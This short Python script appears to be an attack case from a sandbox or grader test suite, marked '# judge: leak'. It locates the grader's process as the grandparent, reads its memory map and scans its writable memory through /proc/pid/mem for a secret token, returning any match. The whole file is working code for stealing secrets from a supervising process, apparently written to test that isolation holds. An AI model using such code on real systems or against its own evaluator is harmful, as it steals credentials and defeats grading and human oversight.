"""Searches the memory of the grader's own process, found as the parent of the parent."""

# judge: leak

import os
import re


def parent(pid):
    with open(f"/proc/{pid}/stat") as file:
        return int(file.read().rpartition(") ")[2].split()[1])


def attack(ground):
    pid = parent(os.getppid())
    with open(f"/proc/{pid}/maps") as file:
        areas = [line.split()[0].split("-") for line in file if " rw-p " in line]
    memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    wanted = ground["memory"].encode() + b"[0-9a-f]{16}"
    for start, end in areas:
        for place in range(int(start, 16), int(end, 16), 1 << 20):
            try:
                content = os.pread(memory, min(1 << 20, int(end, 16) - place), place)
            except OSError:
                continue
            found = re.search(wanted, content)
            if found:
                return found[0]
    return None
